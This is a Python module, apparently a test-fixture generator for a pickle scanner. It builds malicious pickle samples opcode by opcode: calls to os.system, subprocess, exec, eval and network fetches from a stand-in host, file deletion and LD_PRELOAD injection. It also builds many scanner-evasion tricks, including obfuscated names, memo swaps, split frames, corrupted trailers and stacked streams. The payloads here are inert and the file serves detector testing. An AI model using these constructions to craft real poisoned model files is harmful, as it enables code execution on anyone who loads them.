"""Attacks that hide in pickles: bare, stacked, broken, inside joblib and legacy torch files.

Assembled opcode by opcode (PEP 307, PEP 3154, PEP 574, CPython's pickletools), so
that every sample says exactly what it does. Nothing here is ever loaded.
"""

import bz2
import gzip
import lzma
import struct
import zlib

COMMAND = "echo ringfort-inert"
CODE = "print('ringfort-inert')"
URL = "http://example.invalid/payload"

STOP = b"."
MARK = b"("
REDUCE = b"R"
BUILD = b"b"
NEWOBJ = b"\x81"
NEWOBJ_EX = b"\x92"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
POP = b"0"
DUP = b"2"
NONE = b"N"
EMPTY_TUPLE = b")"
EMPTY_LIST = b"]"
EMPTY_DICT = b"}"
TUPLE = b"t"
T1, T2, T3 = b"\x85", b"\x86", b"\x87"
SETITEM = b"s"
SETITEMS = b"u"
APPEND = b"a"
APPENDS = b"e"


def proto(version):
    return bytes([0x80, version])


def frame(body):
    return b"\x95" + struct.pack("<Q", len(body)) + body


def text(value):
    """BINUNICODE"""
    raw = value.encode("utf-8")
    return b"X" + struct.pack("<I", len(raw)) + raw


def short(value):
    """SHORT_BINUNICODE"""
    raw = value.encode("utf-8")
    return b"\x8c" + bytes([len(raw)]) + raw


def long_text(value):
    """BINUNICODE8"""
    raw = value.encode("utf-8")
    return b"\x8d" + struct.pack("<Q", len(raw)) + raw


def blob(raw):
    """BINBYTES"""
    return b"B" + struct.pack("<I", len(raw)) + raw


def line_text(value):
    """UNICODE, a line in raw-unicode-escape"""
    return b"V" + value.encode("raw_unicode_escape") + b"\n"


def line_string(value):
    """STRING, a quoted line"""
    return b"S'" + value.encode("ascii") + b"'\n"


def short_string(value):
    """SHORT_BINSTRING"""
    raw = value.encode("latin-1")
    return b"U" + bytes([len(raw)]) + raw


def name(module, attribute):
    """GLOBAL"""
    return b"c" + module.encode("utf-8") + b"\n" + attribute.encode("utf-8") + b"\n"


def stack_name(module, attribute):
    """STACK_GLOBAL"""
    return short(module) + short(attribute) + STACK_GLOBAL


def integer(value):
    return b"J" + struct.pack("<i", value)


def put(index):
    return b"q" + bytes([index])


def get(index):
    return b"h" + bytes([index])


def pack(*items):
    """A tuple of what the items leave on the stack."""
    if not items:
        return EMPTY_TUPLE
    if len(items) <= 3:
        return b"".join(items) + (T1, T2, T3)[len(items) - 1]
    return MARK + b"".join(items) + TUPLE


def call(module, attribute, *arguments):
    return name(module, attribute) + pack(*arguments) + REDUCE


def call_on(callable_code, *arguments):
    return callable_code + pack(*arguments) + REDUCE


def getattr_of(target, attribute):
    return call_on(name("builtins", "getattr"), target, short(attribute))


def listing(*items):
    return EMPTY_LIST + MARK + b"".join(items) + APPENDS


def mapping(*pairs):
    return EMPTY_DICT + MARK + b"".join(key + value for key, value in pairs) + SETITEMS


def pickle(body, version=2):
    return (proto(version) if version >= 2 else b"") + body + STOP


def framed(body, version=4):
    return proto(version) + frame(body + STOP)


SYSTEM = call("posix", "system", short(COMMAND))
OS_SYSTEM = call("os", "system", short(COMMAND))


# ---------------------------------------------------------------- plain calls

def plain_calls():
    yield "protocol0_os_system.pkl", b"cos\nsystem\n(S'" + COMMAND.encode() + b"'\ntR.", "protocol 0: os.system"
    behind = b"0cos\nsystem\n(S'" + COMMAND.encode() + b"'\ntR."
    yield "protocol0_behind_a_long_line", b"V" + b"words and words " * 10000 + b"\n" + behind, "protocol 0 behind a text longer than a head"
    yield "protocol0_behind_blanks", b"I" + b" " * 100 + b"1\n" + behind, "protocol 0 behind a number with blanks"
    yield "protocol0_behind_hexadecimal", b"I0xBAD\n" + behind, "protocol 0 behind a hexadecimal number"
    yield "protocol0_behind_infinity", b"Finfinity\n" + behind, "protocol 0 behind infinity"
    yield "protocol0_behind_many_numbers", b"I1\n0" * 5000 + b"I1\n" + behind, "protocol 0 behind five thousand numbers"
    yield "protocol1_posix_system.pkl", name("posix", "system") + MARK + short_string(COMMAND) + TUPLE + REDUCE + STOP, \
        "protocol 1: posix.system with a short string"
    yield "protocol2_nt_system.pkl", pickle(call("nt", "system", text(COMMAND))), "protocol 2: nt.system, Windows' twin"
    yield "protocol3_subprocess.pkl", pickle(call("subprocess", "check_output", listing(text("echo"), text("ringfort-inert"))), 3), \
        "protocol 3: subprocess.check_output"
    yield "protocol4_stack_global.pkl", framed(stack_name("posix", "system") + pack(short(COMMAND)) + REDUCE), \
        "protocol 4: STACK_GLOBAL posix.system in a frame"
    yield "protocol5_popen.pkl", framed(call_on(stack_name("subprocess", "Popen"), listing(short("echo"), short("ringfort-inert"))), 5), \
        "protocol 5: subprocess.Popen"
    single = {
        "builtins_exec": ("builtins", "exec", text(CODE)),
        "builtins_eval": ("builtins", "eval", text(CODE)),
        "python2_builtin_eval": ("__builtin__", "eval", text(CODE)),
        "python2_execfile": ("__builtin__", "execfile", text("payload.py")),
        "os_popen": ("os", "popen", text(COMMAND)),
        "os_execv": ("os", "execv", text("/bin/echo") + b"", listing(text("echo"), text("ringfort-inert"))),
        "os_posix_spawn": ("posix", "posix_spawn", text("/bin/echo"), listing(text("echo")), EMPTY_DICT),
        "pty_spawn": ("pty", "spawn", text("/bin/true")),
        "commands_getoutput": ("commands", "getoutput", text(COMMAND)),
        "platform_popen": ("platform", "popen", text(COMMAND)),
        "asyncio_shell": ("asyncio", "create_subprocess_shell", text(COMMAND)),
        "asyncio_transport": ("asyncio.unix_events", "_UnixSubprocessTransport._start", NONE, text(COMMAND), b"\x88", NONE, NONE, NONE, integer(0)),
        "pip_main": ("pip", "main", listing(text("install"), text("ringfort-inert-nothing"))),
        "pip_internal_main": ("pip._internal.cli.main", "main", listing(text("download"), text("x"))),
        "runpy_run_path": ("runpy", "run_path", text("payload.py")),
        "runpy_private": ("runpy", "_run_code", text(CODE), EMPTY_DICT),
        "code_interact": ("code", "interact"),
        "code_runsource": ("code", "InteractiveInterpreter.runcode", NONE, NONE),
        "timeit": ("timeit", "timeit", text(CODE)),
        "timeit_main": ("timeit", "main", listing(text(CODE))),
        "cprofile_run": ("cProfile", "run", text(CODE)),
        "profile_runctx": ("profile", "Profile.run", NONE, text(CODE)),
        "trace_run": ("trace", "Trace.run", NONE, text(CODE)),
        "pdb_run": ("pdb", "run", text(CODE)),
        "bdb_run": ("bdb", "Bdb.run", NONE, text(CODE)),
        "doctest_debug": ("doctest", "debug_script", text(CODE)),
        "idlelib_pyshell": ("idlelib.pyshell", "ModifiedInterpreter.runcommand", NONE, text(CODE)),
        "idlelib_autocomplete": ("idlelib.autocomplete", "AutoComplete.get_entity", NONE, text(CODE)),
        "idlelib_calltip": ("idlelib.calltip", "Calltip.fetch_tip", NONE, text(CODE)),
        "lib2to3_driver": ("lib2to3.pgen2.grammar", "Grammar.loads", NONE, blob(b"cposix\nsystem\n.")),
        "ensurepip": ("ensurepip", "_run_pip", listing(text("--version"))),
        "venv_create": ("venv", "create", text("environment")),
        "webbrowser_open": ("webbrowser", "open", text(URL)),
        "urllib_urlopen": ("urllib.request", "urlopen", text(URL)),
        "urllib_urlretrieve": ("urllib.request", "urlretrieve", text(URL), text("payload")),
        "requests_get": ("requests.api", "get", text(URL)),
        "socket_connect": ("socket", "create_connection", pack(text("example.invalid"), integer(80))),
        "http_client": ("http.client", "HTTPSConnection", text("example.invalid")),
        "ssl_certificate": ("ssl", "get_server_certificate", pack(text("example.invalid"), integer(443))),
        "smtplib": ("smtplib", "SMTP", text("example.invalid")),
        "file_write": ("builtins", "open", text("ringfort-inert"), text("w")),
        "io_open": ("_io", "open", text("ringfort-inert"), text("w")),
        "io_fileio": ("_io", "FileIO", text("ringfort-inert"), text("w")),
        "pathlib_write": ("pathlib", "Path.write_text", call("pathlib", "PosixPath", text("ringfort-inert")), text("x")),
        "shutil_rmtree": ("shutil", "rmtree", text("ringfort-inert")),
        "os_remove": ("os", "remove", text("ringfort-inert")),
        "os_environ": ("os", "environ.update", mapping((text("LD_PRELOAD"), text("inert.so")))),
        "linecache_read": ("linecache", "getlines", text("/etc/hostname")),
        "ctypes_load": ("ctypes", "CDLL", text("inert.so")),
        "ctypes_findlib": ("ctypes.util", "_findLib_gcc", text("inert")),
        "uuid_command": ("uuid", "_get_command_stdout", text("echo"), text("ringfort-inert")),
        "osx_support": ("_osx_support", "_read_output", text(COMMAND)),
        "aix_support": ("_aix_support", "_read_cmd_output", text(COMMAND)),
        "pydoc_pager": ("pydoc", "pipepager", text("text"), text(COMMAND)),
        "pydoc_tempfile": ("pydoc", "tempfilepager", text("text"), text(COMMAND)),
        "imaplib_stream": ("imaplib", "IMAP4_stream", text(COMMAND)),
        "distutils_spawn": ("distutils.spawn", "spawn", listing(text("echo"))),
        "numpy_exec_command": ("numpy.distutils.exec_command", "exec_command", text(COMMAND)),
        "numpy_runstring": ("numpy.testing._private.utils", "runstring", text(CODE), EMPTY_DICT),
        "numpy_f2py": ("numpy.f2py.crackfortran", "_eval_scalar", text(CODE), EMPTY_DICT),
        "numpy_load": ("numpy", "load", text("payload.npy"), NONE, b"\x88"),
        "torch_load": ("torch.serialization", "load", text("payload.pt")),
        "torch_hub": ("torch.hub", "load", text("example/invalid"), text("model")),
        "torch_extension": ("torch.utils.cpp_extension", "load_inline", text("inert"), text("int x;")),
        "torch_compile_gadget": ("torch._dynamo.guards", "GuardBuilder.get", NONE, text(CODE)),
        "torch_collect_env": ("torch.utils.collect_env", "run", text(COMMAND)),
        "torch_bottleneck": ("torch.utils.bottleneck.__main__", "run_cprofile", text(CODE), EMPTY_DICT),
        "pandas_eval": ("pandas.core.computation.eval", "eval", text("@x.y")),
        "pandas_read_pickle": ("pandas.io.pickle", "read_pickle", text("payload.pkl")),
        "joblib_load": ("joblib.numpy_pickle", "load", text("payload.joblib")),
        "pickle_loads": ("_pickle", "loads", blob(b"cposix\nsystem\n(S'" + COMMAND.encode() + b"'\ntR.")),
        "marshal_loads": ("marshal", "loads", blob(b"\xe3")),
        "sympify": ("sympy.core.sympify", "sympify", text(CODE)),
        "sqlite_connect": ("_sqlite3", "connect", text("ringfort-inert.db")),
        "logging_config": ("logging.config", "fileConfig", text("payload.ini")),
        "logging_filehandler": ("logging", "FileHandler", text("ringfort-inert.log")),
        "zipimport": ("zipimport", "zipimporter", text("payload.zip")),
        "multiprocessing_spawn": ("multiprocessing.util", "spawnv_passfds", blob(b"/bin/echo"), listing(blob(b"echo")), EMPTY_TUPLE),
        "private_posixsubprocess": ("_posixsubprocess", "fork_exec", listing(blob(b"echo"))),
        "yaml_unsafe_load": ("yaml", "unsafe_load", text("!!python/object/apply:os.system [echo]")),
        "ipython_system": ("IPython.utils.process", "system", text(COMMAND)),
        "test_support_script": ("test.support.script_helper", "assert_python_ok", text("-c"), text(CODE)),
        "sys_settrace": ("sys", "settrace", name("builtins", "exec")),
        "atexit_register": ("atexit", "register", name("posix", "system"), text(COMMAND)),
        "signal_handler": ("_signal", "signal", integer(14), name("builtins", "breakpoint")),
        "cgitb": ("cgitb", "lookup", text("x"), NONE, EMPTY_DICT),
        "profile_pstats": ("pstats", "Stats", text("payload")),
        "turtle_config": ("turtle", "config_dict", text("payload")),
        "unittest_main": ("unittest", "main", text("payload")),
        "setuptools_sandbox": ("setuptools.sandbox", "run_setup", text("setup.py"), EMPTY_LIST),
        "pkg_resources_script": ("pkg_resources", "run_script", text("x"), text("payload")),
        "mmap_private": ("mmap", "mmap", integer(-1), integer(4096)),
        "faulthandler_crash": ("faulthandler", "_sigsegv"),
        "breakpointhook": ("sys", "breakpointhook"),
    }
    for case, (module, attribute, *arguments) in single.items():
        yield f"{case}.pkl", pickle(call(module, attribute, *arguments), 4), f"{module}.{attribute} called"


# ------------------------------------------------------- other ways to a call

def other_opcodes():
    yield "inst_opcode.pkl", MARK + line_string(COMMAND) + b"iposix\nsystem\n" + STOP, "INST calls without REDUCE"
    yield "obj_opcode.pkl", MARK + name("posix", "system") + line_string(COMMAND) + b"o" + STOP, "OBJ calls without REDUCE"
    yield "newobj_class.pkl", pickle(name("subprocess", "Popen") + pack(listing(text("echo"))) + NEWOBJ), \
        "NEWOBJ on subprocess.Popen"
    yield "newobj_ex_class.pkl", pickle(name("subprocess", "Popen") + EMPTY_TUPLE + mapping((text("args"), text("echo"))) + NEWOBJ_EX, 4), \
        "NEWOBJ_EX on subprocess.Popen with keywords"
    yield "newobj_new_of_partial.pkl", pickle(
        name("functools", "partial") + pack(name("posix", "system"), text(COMMAND)) + NEWOBJ + EMPTY_TUPLE + REDUCE), \
        "functools.partial made by NEWOBJ, then called"
    yield "build_setstate_gadget.pkl", pickle(
        name("functools", "partial") + pack(name("builtins", "print")) + NEWOBJ
        + MARK + name("posix", "system") + pack(text(COMMAND)) + EMPTY_DICT + EMPTY_DICT + TUPLE + BUILD
        + EMPTY_TUPLE + REDUCE), "partial.__setstate__ swaps the function for posix.system"
    yield "build_setstate_named.pkl", pickle(
        name("collections", "UserList") + EMPTY_TUPLE + NEWOBJ
        + mapping((text("__setstate__"), name("posix", "system"))) + BUILD + text(COMMAND) + BUILD), \
        "BUILD plants __setstate__, the second BUILD calls it"
    yield "build_on_class.pkl", pickle(
        name("collections", "OrderedDict") + NONE + mapping((text("__setitem__"), name("posix", "system"))) + T2 + BUILD
        + EMPTY_TUPLE + REDUCE + text("x") + text(COMMAND) + SETITEM), "BUILD rewrites a class, SETITEM calls the new method"
    yield "build_on_module_dict.pkl", pickle(
        name("sys", "modules") + text("collections") + name("os", "path") + SETITEM), "sys.modules is rewritten"
    yield "setitems_on_environ.pkl", pickle(name("os", "environ") + mapping_items((text("LD_PRELOAD"), text("inert.so")))), \
        "SETITEMS on os.environ"
    yield "append_on_path.pkl", pickle(name("sys", "path") + text("/tmp/inert") + APPEND), "APPEND on sys.path"
    yield "append_calls_method.pkl", pickle(
        name("collections", "UserList") + EMPTY_TUPLE + NEWOBJ
        + mapping((text("append"), name("posix", "system"))) + BUILD + text(COMMAND) + APPEND), \
        "APPEND calls an append that BUILD has planted"
    yield "extend_planted.pkl", pickle(
        name("types", "SimpleNamespace") + EMPTY_TUPLE + REDUCE
        + mapping((text("extend"), name("posix", "system"))) + BUILD + MARK + text(COMMAND) + APPENDS), \
        "APPENDS calls an extend that BUILD has planted"
    yield "persistent_id_call.pkl", pickle(call("posix", "system", text(COMMAND)) + b"Q"), "a call's result as persistent id"
    yield "ext_registry.pkl", pickle(b"\x82\x01" + pack(text(COMMAND)) + REDUCE), "the callable comes from the copyreg extension registry"
    yield "ext_registry_filled.pkl", pickle(
        call("copyreg", "add_extension", text("posix"), text("system"), integer(7)) + POP
        + b"\x82\x07" + pack(text(COMMAND)) + REDUCE), "copyreg.add_extension, then EXT1"


def mapping_items(*pairs):
    return MARK + b"".join(key + value for key, value in pairs) + SETITEMS


# ----------------------------------------------------- names found at run time

def indirections():
    os_module = call("importlib", "import_module", text("os"))
    yield "import_module_getattr.pkl", pickle(call_on(getattr_of(os_module, "system"), text(COMMAND)), 4), \
        "importlib.import_module('os'), getattr system"
    yield "dunder_import.pkl", pickle(call_on(getattr_of(call("builtins", "__import__", text("os")), "popen"), text(COMMAND)), 4), \
        "__import__('os').popen by getattr"
    yield "dotted_stack_global.pkl", framed(stack_name("shutil", "os.system") + pack(short(COMMAND)) + REDUCE), \
        "STACK_GLOBAL walks shutil.os.system"
    yield "dotted_through_logging.pkl", framed(stack_name("logging", "sys.modules") + POP + stack_name("logging", "os.system") + pack(short(COMMAND)) + REDUCE), \
        "logging.os.system"
    yield "dotted_through_torch.pkl", framed(stack_name("torch.serialization", "os.system") + pack(short(COMMAND)) + REDUCE), \
        "an allowed package's module leads to os.system"
    yield "dotted_through_numpy.pkl", framed(stack_name("numpy", "core.numeric.sys.modules") + POP + stack_name("numpy", "testing._private.utils.os.system") + pack(short(COMMAND)) + REDUCE), \
        "numpy.testing._private.utils.os.system"
    yield "builtins_chain.pkl", framed(stack_name("collections", "abc.__builtins__.__getitem__") + pack(short("eval")) + REDUCE + pack(short(CODE)) + REDUCE), \
        "a module's __builtins__ yields eval"
    yield "builtins_dict_get.pkl", pickle(
        call_on(getattr_of(call("builtins", "vars", name("builtins", "object")), "get"), text("exec")) + pack(text(CODE)) + REDUCE, 4), \
        "vars(...).get('exec')"
    yield "subclasses_walk.pkl", framed(stack_name("builtins", "object.__subclasses__") + EMPTY_TUPLE + REDUCE), \
        "object.__subclasses__() looks for a gadget"
    yield "function_globals.pkl", framed(stack_name("os", "walk.__globals__") + POP + call_on(stack_name("json", "loads.__globals__.get"), short("__builtins__"))), \
        "__globals__ of an innocent function"
    yield "pkgutil_resolve.pkl", pickle(call_on(call("pkgutil", "resolve_name", text("os:system")), text(COMMAND)), 4), \
        "pkgutil.resolve_name('os:system')"
    yield "pydoc_locate.pkl", pickle(call_on(call("pydoc", "locate", text("os.system")), text(COMMAND)), 4), "pydoc.locate('os.system')"
    yield "unittest_importer.pkl", pickle(call_on(call("unittest.mock", "_importer", text("os.system")), text(COMMAND)), 4), \
        "unittest.mock._importer"
    yield "operator_attrgetter.pkl", pickle(
        call_on(call_on(call("operator", "attrgetter", text("system")), call("importlib", "import_module", text("os"))), text(COMMAND)), 4), \
        "operator.attrgetter('system')(os)"
    yield "operator_methodcaller.pkl", pickle(
        call_on(call("operator", "methodcaller", text("system"), text(COMMAND)), call("importlib", "import_module", text("os"))), 4), \
        "operator.methodcaller('system', ...)(os)"
    yield "string_joined.pkl", pickle(
        call_on(getattr_of(text(""), "join"), listing(text("po"), text("six"))) + put(1) + POP
        + call_on(name("builtins", "getattr"), call("importlib", "import_module", get(1)), text("system")) + pack(text(COMMAND)) + REDUCE, 4), \
        "the module's name is joined from pieces"
    yield "string_replaced.pkl", pickle(
        call_on(getattr_of(text("s.y.s.t.e.m"), "replace"), text("."), text("")) + put(1) + POP
        + call_on(name("builtins", "getattr"), call("importlib", "import_module", text("os")), get(1)) + pack(text(COMMAND)) + REDUCE, 4), \
        "the function's name is cleaned by str.replace"
    yield "stack_global_computed.pkl", pickle(
        call("builtins", "str", text("os")) + call_on(name("operator", "concat"), text("sys"), text("tem")) + STACK_GLOBAL
        + pack(text(COMMAND)) + REDUCE, 4), "STACK_GLOBAL takes computed strings"
    yield "stack_global_decoded.pkl", pickle(
        call("_codecs", "decode", blob(b"cbfvk"), text("rot13")) + text("system") + STACK_GLOBAL + pack(text(COMMAND)) + REDUCE, 4), \
        "STACK_GLOBAL takes a name decoded by rot13"
    yield "codecs_base64.pkl", pickle(call("builtins", "exec", call("_codecs", "decode", blob(b"cHJpbnQoMSk="), text("base64"))), 4), \
        "exec of base64-decoded source"
    yield "map_gadget.pkl", pickle(call("builtins", "list", call("builtins", "map", name("posix", "system"), listing(text(COMMAND)))), 4), \
        "list(map(posix.system, ...))"
    yield "filter_bytes.pkl", pickle(call_on(name("builtins", "bytes"), call("builtins", "filter", name("builtins", "exec"), listing(text(CODE)))), 4), \
        "bytes(filter(exec, ...))"
    yield "newobj_map.pkl", pickle(
        name("builtins", "bytes") + pack(name("builtins", "map") + pack(name("posix", "system"), listing(text(COMMAND))) + NEWOBJ) + NEWOBJ, 4), \
        "map and bytes by NEWOBJ only, no REDUCE in the stream"
    yield "reduce_gadget.pkl", pickle(call("functools", "reduce", name("builtins", "getattr"), listing(text("system")), name("os", "path")), 4), \
        "functools.reduce(getattr, ...)"
    yield "partial_gadget.pkl", pickle(call_on(call("functools", "partial", name("posix", "system"), text(COMMAND))), 4), "partial(posix.system, ...)()"
    yield "defaultdict_factory.pkl", pickle(call("collections", "defaultdict", name("code", "interact")), 4), "defaultdict(code.interact)"
    yield "starmap.pkl", pickle(call("collections", "deque", call("itertools", "starmap", name("posix", "system"), listing(pack(text(COMMAND))))), 4), \
        "deque(itertools.starmap(posix.system, ...))"
    yield "accumulate.pkl", pickle(call("builtins", "tuple", call("itertools", "accumulate", listing(text(CODE), EMPTY_DICT), name("builtins", "exec"))), 4), \
        "tuple(itertools.accumulate(..., exec))"
    yield "sorted_key.pkl", pickle(call("builtins", "max", listing(text(CODE)), text("x")) + POP + call("builtins", "sorted", listing(text(CODE)), NONE, name("builtins", "exec")), 4), \
        "sorted with a dangerous key"
    yield "iter_sentinel.pkl", pickle(call("builtins", "next", call("builtins", "iter", name("code", "interact"), integer(0))), 4), \
        "next(iter(callable, sentinel))"
    yield "property_getter.pkl", pickle(call("builtins", "type", text("X"), EMPTY_TUPLE, mapping((text("__del__"), name("code", "interact")))), 4), \
        "type() builds a class whose __del__ runs"
    yield "copyreg_reconstructor.pkl", pickle(call("copyreg", "_reconstructor", name("subprocess", "Popen"), name("builtins", "object"), NONE)), \
        "copyreg._reconstructor on subprocess.Popen"
    yield "copyreg_newobj.pkl", pickle(call("copyreg", "__newobj__", name("subprocess", "Popen"), text("echo")), 4), "copyreg.__newobj__ on subprocess.Popen"
    yield "nested_newobj_ex.pkl", pickle(call("copyreg", "__newobj_ex__", name("multiprocessing.context", "Process"), EMPTY_TUPLE, EMPTY_DICT), 4), \
        "copyreg.__newobj_ex__ on a process"
    yield "types_function.pkl", pickle(call("types", "FunctionType", call("types", "CodeType", integer(0)), EMPTY_DICT), 4), "types.FunctionType over types.CodeType"
    yield "method_type.pkl", pickle(call_on(call("types", "MethodType", name("posix", "system"), text(COMMAND))), 4), "types.MethodType(posix.system, command)()"
    yield "weakref_finalize.pkl", pickle(call("weakref", "finalize", name("collections", "OrderedDict"), name("posix", "system"), text(COMMAND)), 4), \
        "weakref.finalize(..., posix.system)"
    yield "thread_run.pkl", pickle(call("threading", "Timer", integer(0), name("posix", "system"), listing(text(COMMAND))), 4), "threading.Timer(0, posix.system)"
    yield "contextlib_exit.pkl", pickle(call("contextlib", "ExitStack.callback", NONE, name("posix", "system"), text(COMMAND)), 4), "ExitStack.callback"
    yield "concurrent_submit.pkl", pickle(call("concurrent.futures.thread", "ThreadPoolExecutor.submit", NONE, name("posix", "system"), text(COMMAND)), 4), \
        "ThreadPoolExecutor.submit"
    yield "joblib_delayed.pkl", pickle(call_on(call("joblib.parallel", "delayed", name("posix", "system")), text(COMMAND)), 4), "joblib.delayed(posix.system)"
    yield "sklearn_transformer.pkl", pickle(
        name("sklearn.preprocessing._function_transformer", "FunctionTransformer") + EMPTY_TUPLE + NEWOBJ
        + mapping((text("func"), name("posix", "system"))) + BUILD, 4), "a FunctionTransformer whose function is posix.system"
    yield "dispatch_table.pkl", pickle(name("copyreg", "dispatch_table") + name("builtins", "int") + name("posix", "system") + SETITEM, 4), \
        "copyreg.dispatch_table is rewritten"
    yield "bare_reference.pkl", pickle(mapping((text("callback"), name("posix", "system"))), 4), "posix.system kept as a value"
    yield "antigravity.pkl", pickle(name("antigravity", "webbrowser"), 4), "importing antigravity opens a browser"
    yield "unknown_module_call.pkl", pickle(call("ringfort_unknown_package.loader", "load", text("x")), 4), "a call into a package nobody knows"
    yield "unknown_reference.pkl", pickle(name("ringfort_unknown_package", "hook"), 4), "a name of a package nobody knows"
    yield "nonascii_module.pkl", pickle(name("о\u0455", "system") + pack(text(COMMAND)) + REDUCE, 4), "a module named with Cyrillic letters"
    yield "dill_code.pkl", pickle(
        call("dill._dill", "_create_function", call("dill._dill", "_create_code", integer(0), pack(text("os"), text("system"))), EMPTY_DICT), 4), \
        "dill rebuilds a function that names os.system"
    yield "cloudpickle_code.pkl", pickle(
        call("cloudpickle.cloudpickle", "_make_function", call("cloudpickle.cloudpickle", "_builtin_type", text("CodeType")), EMPTY_DICT), 4), \
        "cloudpickle rebuilds a function"
    yield "dill_loads.pkl", pickle(call("dill", "loads", blob(b"cposix\nsystem\n.")), 4), "dill.loads of a nested stream"
    yield "dill_import.pkl", pickle(call_on(call("dill._dill", "_import_module", text("os.system")), text(COMMAND)), 4), "dill's _import_module"
    yield "dill_get_attr.pkl", pickle(call_on(call("dill._dill", "_get_attr", call("dill._dill", "_import_module", text("os")), text("system")), text(COMMAND)), 4), \
        "dill's _get_attr"
    yield "cloudpickle_subimport.pkl", pickle(getattr_of(call("cloudpickle.cloudpickle", "subimport", text("os")), "system") + pack(text(COMMAND)) + REDUCE, 4), \
        "cloudpickle's subimport"
    yield "torch_rebuild_hook.pkl", pickle(
        call("torch._utils", "_rebuild_parameter", call("torch._tensor", "_rebuild_from_type_v2", name("posix", "system"), name("torch", "Tensor"), pack(text(COMMAND)), NONE)), 4), \
        "torch's _rebuild_from_type_v2 calls the function it is given"
    yield "torch_script_method.pkl", pickle(call("torch.jit._serialization", "load", text("payload.pt")), 4), "torch.jit.load"
    yield "torch_package_importer.pkl", pickle(call("torch.package", "PackageImporter", text("payload.pt")), 4), "torch.package.PackageImporter"
    yield "pandas_unpickle_query.pkl", pickle(call("pandas.core.frame", "DataFrame.query", NONE, text("@pd.io.common.os.system('echo')")), 4), "DataFrame.query"
    yield "numpy_vectorize.pkl", pickle(call_on(call("numpy", "vectorize", name("posix", "system")), listing(text(COMMAND))), 4), "numpy.vectorize(posix.system)"
    yield "numpy_fromfunction.pkl", pickle(call("numpy", "apply_along_axis", name("builtins", "exec"), integer(0), listing(text(CODE))), 4), "numpy.apply_along_axis(exec)"


# ----------------------------------------------- memo, escapes, broken streams

def encodings():
    yield "memo_swap.pkl", pickle(name("collections", "OrderedDict") + put(0) + POP + name("posix", "system") + put(0) + POP
                                  + get(0) + pack(text(COMMAND)) + REDUCE), "a memo slot is overwritten before use"
    yield "memo_strings.pkl", pickle(text("system") + put(5) + POP + text("posix") + get(5) + STACK_GLOBAL + pack(text(COMMAND)) + REDUCE, 4), \
        "STACK_GLOBAL takes its name from the memo"
    yield "memo_long_index.pkl", pickle(name("posix", "system") + b"r" + struct.pack("<I", 0x7FFFFFF0) + POP
                                        + b"j" + struct.pack("<I", 0x7FFFFFF0) + pack(text(COMMAND)) + REDUCE), "LONG_BINPUT with a huge index"
    yield "memo_text_index.pkl", name("posix", "system") + b"p77\n0g77\n" + MARK + line_string(COMMAND) + TUPLE + REDUCE + STOP, "PUT and GET by text"
    yield "memoize_order.pkl", framed(short("x") + MEMOIZE + POP + short("posix") + MEMOIZE + short("system") + MEMOIZE + STACK_GLOBAL + MEMOIZE
                                      + POP + b"h\x03" + pack(short(COMMAND)) + REDUCE), "MEMOIZE numbers the slots"
    yield "dup_callable.pkl", pickle(name("posix", "system") + DUP + pack(text(COMMAND)) + REDUCE + POP), "DUP copies the callable"
    yield "popmark_noise.pkl", pickle(MARK + integer(1) + integer(2) + b"1" + SYSTEM), "POP_MARK hides noise"
    yield "noise_between.pkl", pickle(name("posix", "system") + MARK + (integer(1) + POP) * 500 + text(COMMAND) + TUPLE + REDUCE), \
        "five hundred dead opcodes between name and call"
    yield "escaped_unicode.pkl", MARK + b"V\\u0070\\u006f\\u0073\\u0069\\u0078\n" + b"V\\u0073ystem\n" + b"1" \
        + b"V\\u0070osix\n" + b"Vs\\u0079stem\n" + STACK_GLOBAL + MARK + line_string(COMMAND) + TUPLE + REDUCE + STOP, \
        "names written with raw unicode escapes"
    yield "string_escapes.pkl", b"S'\\x70\\x6f\\x73ix'\nS'sys\\x74em'\n" + STACK_GLOBAL + MARK + line_string(COMMAND) + TUPLE + REDUCE + STOP, \
        "names written with string escapes"
    yield "long_text_names.pkl", pickle(long_text("posix") + long_text("system") + STACK_GLOBAL + pack(long_text(COMMAND)) + REDUCE, 4), "BINUNICODE8 everywhere"
    yield "old_protocol_new_opcode.pkl", b"\x80\x00" + short("posix") + short("system") + STACK_GLOBAL + pack(short(COMMAND)) + REDUCE + STOP, \
        "protocol 0 declared, protocol 4 used"
    yield "no_proto.pkl", stack_name("posix", "system") + pack(short(COMMAND)) + REDUCE + STOP, "protocol 4 opcodes without PROTO"
    yield "proto_in_the_middle.pkl", proto(2) + integer(1) + POP + proto(4) + SYSTEM + proto(5) + STOP, "PROTO again and again"
    yield "future_proto.pkl", SYSTEM + b"\x80\x0f" + STOP, "payload, then a protocol that does not exist"
    yield "frame_too_long.pkl", proto(4) + b"\x95" + struct.pack("<Q", 1 << 40) + SYSTEM + STOP, "FRAME claims a terabyte"
    yield "frame_too_short.pkl", proto(4) + b"\x95" + struct.pack("<Q", 3) + SYSTEM + STOP, "FRAME is shorter than an opcode"
    yield "two_frames_split.pkl", proto(4) + frame(short("posix") + short("system")) + frame(STACK_GLOBAL + pack(short(COMMAND)) + REDUCE + STOP), \
        "the call is split over two frames"
    yield "bytearray8_and_buffers.pkl", pickle(b"\x96" + struct.pack("<Q", 4) + b"data" + POP + SYSTEM, 5), "BYTEARRAY8 before the call"
    yield "next_buffer_call.pkl", pickle(name("posix", "system") + b"\x97\x98" + T1 + REDUCE, 5), "the command comes from an out-of-band buffer"

    yield "broken_after_payload.pkl", proto(2) + SYSTEM + b"\xff\xff\xff", "an invalid opcode right after the payload"
    yield "no_stop.pkl", proto(2) + SYSTEM, "payload, then the end without STOP"
    yield "truncated_in_string.pkl", proto(2) + SYSTEM + b"X\xff\xff\xff\x7fabc", "payload, then a string that is longer than the file"
    yield "stack_underflow_after.pkl", proto(2) + SYSTEM + POP * 5 + REDUCE + STOP, "payload, then a stack underflow"
    yield "memo_miss_after.pkl", proto(2) + SYSTEM + get(99) + STOP, "payload, then a missing memo entry"
    yield "garbage_int_after.pkl", SYSTEM + b"Inot a number\n" + STOP, "payload, then a number that is none"
    yield "empty_stack_stop.pkl", proto(2) + SYSTEM + POP + STOP, "payload thrown away, STOP on an empty stack"
    yield "unhashable_after.pkl", pickle(SYSTEM + POP + EMPTY_DICT + EMPTY_LIST + NONE + SETITEM), "payload, then a TypeError on load"
    yield "bad_utf8_after.pkl", pickle(SYSTEM + b"X\x02\x00\x00\x00\xff\xfe"), "payload, then text that is not UTF-8"

    yield "stacked_second.pkl", pickle(mapping((text("weights"), listing(integer(1))))) + pickle(SYSTEM), "the payload is in the second stream"
